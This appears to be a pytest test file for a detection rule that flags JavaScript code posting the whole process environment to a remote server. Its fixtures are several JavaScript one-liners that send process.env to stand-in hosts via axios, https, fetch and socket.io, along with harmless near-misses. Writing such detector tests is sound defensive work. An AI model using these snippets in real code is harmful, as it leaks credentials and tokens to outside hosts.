import pytest

from lazaretto.detect.rules.javascript.environment_posted import RULE


def test_spread_into_a_post(look):
    source = 'const axios = require("axios");\naxios.post("https://x.example.test/a", { ...process.env }).then(next);\n'
    assert look(RULE, source) == [(2, "HIGH", "HIGH", "sends the whole environment to x.example.test")]


@pytest.mark.parametrize(
    "source",
    [
        'const { U } = require("./constant"); axios.post(U, { ...process.env }, { headers: {} })',
        'const h = require("https"); const r = h.request("https://x.test", { method: "POST" }); r.write(JSON.stringify(process.env)); r.end()',
        'fetch(process.env.U, { method: "POST", body: JSON.stringify({ env: process.env }) })',
        'const all = Object.assign({}, process.env); const body = JSON.stringify(all); fetch("https://x.test", { method: "POST", body })',
        'const io = require("socket.io-client")("http://x.test"); io.emit("hello", process.env)',
    ],
)
def test_variants(look, source):
    assert [fact[1:3] for fact in look(RULE, source)] == [("HIGH", "HIGH")]


@pytest.mark.parametrize(
    "source",
    [
        'spawn("x", [], { env: { ...process.env, A: 1 } }); fetch("https://x.test")',
        'fetch("https://x.test", { headers: { authorization: process.env.TOKEN } })',
        "const { PORT } = process.env; axios.get(`https://x.test:${PORT}`)",
        'console.log(process.env); axios.get("https://x.test")',
        'const proxy = proxyFor("https://x.test", process.env); axios.get("https://x.test", { proxy })',
    ],
)
def test_near_misses(look, source):
    assert look(RULE, source) == []


def test_copied_one_by_one(look):
    loop = "const all = {}; for (const k in process.env) all[k] = process.env[k];\n"
    assert [fact[1:3] for fact in look(RULE, loop + 'axios.post("https://x.test/a", all);')] == [("HIGH", "HIGH")]
    assert look(RULE, loop + 'axios.post("https://x.test/a", { mode: all.MODE });') == []
